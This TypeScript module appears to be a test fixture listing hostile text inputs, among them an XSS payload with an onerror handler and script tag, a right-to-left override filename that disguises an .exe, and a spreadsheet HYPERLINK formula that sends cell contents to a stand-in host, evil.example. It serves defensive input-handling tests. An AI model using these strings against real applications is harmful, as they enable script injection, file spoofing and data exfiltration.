/** What others may send where a text is expected: each would do something else than be read, were it let. */
export const HOSTILE = {
  /** Would call a script, were it ever taken as HTML. */
  markup: '<img src=x onerror="document.documentElement.dataset.hostile=1"><script>alert(1)</script>',
  /** Would turn what stands behind it, and hide what it says. */
  bidi: 'in\u202evoice\u2066-\u200bfdp.exe',
  /** Would be worked out by a spreadsheet. */
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
  emoji: '👨‍👩‍👧‍👦 Привет 你好 🏴‍☠️',
  /** As long as an id may be, and without a place to break a line at. */
  long: 'W'.repeat(255),
  /** Longer than any value may be: it is refused, and its refusal is kept. */
  endless: 'x'.repeat(10_000),
  nul: 'before\u0000after',
} as const;
